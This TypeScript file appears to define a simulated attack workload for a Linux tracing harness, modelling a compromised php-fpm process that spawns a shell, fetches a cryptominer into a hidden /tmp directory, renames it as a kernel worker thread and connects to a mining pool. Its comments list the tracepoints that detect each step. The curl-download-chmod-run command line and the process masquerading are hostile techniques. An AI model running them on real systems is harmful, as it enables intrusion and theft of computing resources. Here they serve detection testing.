import type { Sys } from "../sys.ts";
import type { UserCode } from "../task.ts";
import { type ParameterTable, withDefaults } from "./options.ts";
import { dynamicLinker, writeAll } from "./steps.ts";
import { ConfiguredWorkload, exec } from "./workload.ts";

/** It calls itself like a thread of Linux. */
const MINER = "/tmp/.X11-unix/kworkerds";
const POOL = { ip: "203.0.113.66", port: 3333 };

/** How much the intruder takes. */
export interface CryptoMinerOptions {
  readonly threads: number;
  /** Milliseconds until somebody breaks in. */
  readonly after: number;
  /** Milliseconds of computing between two words to the pool. */
  readonly share: number;
}

const PARAMETERS: ParameterTable<CryptoMinerOptions> = {
  threads: { usual: 2, most: 64, whole: true },
  after: { usual: 500, most: 3_600_000 },
  share: { usual: 200, most: 3_600_000 },
};

/**
 * A web application is broken into: it starts a shell, which no web server does; the shell fetches a program into /tmp, makes it
 * executable and runs it. The program calls itself like a thread of Linux, takes all CPUs with low priority and talks to a pool.
 *
 * To be seen with: `tracepoint:sched:sched_process_exec` with the parent's name, `tracepoint:syscalls:sys_enter_execve`,
 * `sys_enter_chmod`, `sys_enter_connect`, `kprobe:tcp_connect` (port 3333), `sys_enter_setpriority`, `profile:hz:99`
 * (the user's stacks), `m.top()`, `uprobe:libpthread:pthread_create`.
 */
export function cryptoMiner(options: Partial<CryptoMinerOptions> = {}): ConfiguredWorkload<CryptoMinerOptions> {
  const all = withDefaults("cryptoMiner", PARAMETERS, options);
  return new ConfiguredWorkload("cryptoMiner", all, (linux) => {
    linux.files.mkdir("/tmp/.X11-unix", { mode: 0o1777 });
    linux.network.outside.serve(POOL.port, { closed: (connection) => connection.close() });
    return linux.process({ comm: "php-fpm", uid: 33, gid: 33, program: (sys) => application(sys, all) });
  });
}

function* application(sys: Sys, options: CryptoMinerOptions): UserCode<void> {
  sys.enter(sys.text("/usr/sbin/php-fpm", "main"));
  yield sys.nanosleep(options.after * 1e6);
  sys.enter(sys.text("/usr/sbin/php-fpm", "zif_shell_exec"));
  const argv = ["sh", "-c", `curl -s http://${POOL.ip}/k -o ${MINER}; chmod +x ${MINER}; nohup ${MINER} &`];
  yield sys.fork((child) => exec(child, "/usr/bin/sh", (shell) => breakIn(shell, options), argv));
  yield sys.wait();
  sys.leave();
  for (;;) yield sys.nanosleep(10e9);
}

function* breakIn(sys: Sys, options: CryptoMinerOptions): UserCode<void> {
  yield* dynamicLinker(sys);
  sys.enter(sys.text("/usr/bin/sh", "main"));
  yield* writeAll(sys, MINER, 3_400_000);
  yield sys.chmod(MINER, 0o755);
  yield sys.fork(function* (child) {
    yield child.setsid();
    yield* exec(child, MINER, (miner) => mine(miner, options), ["[kworker/1:2-events]"]);
  });
  sys.leave();
}

function* mine(sys: Sys, { threads, share }: CryptoMinerOptions): UserCode<void> {
  sys.enter(sys.text(MINER, "main"));
  yield sys.setpriority(0, 19);
  for (let i = 1; i < threads; i++) {
    sys.enter(sys.text("/usr/lib/x86_64-linux-gnu/libpthread.so.0", "pthread_create"), 0, 0, 0);
    yield sys.thread((thread) => hash(thread, share));
    sys.leave(0);
  }
  const pool = yield sys.socket();
  yield sys.connect(pool, POOL.ip, POOL.port);
  sys.enter(sys.text(MINER, "cn_slow_hash"));
  for (;;) {
    yield sys.compute(share * 1e6);
    yield sys.write(pool, 210);
  }
}

function* hash(sys: Sys, share: number): UserCode<void> {
  sys.enter(sys.text(MINER, "cn_slow_hash"));
  for (;;) yield sys.compute(share * 1e6);
}
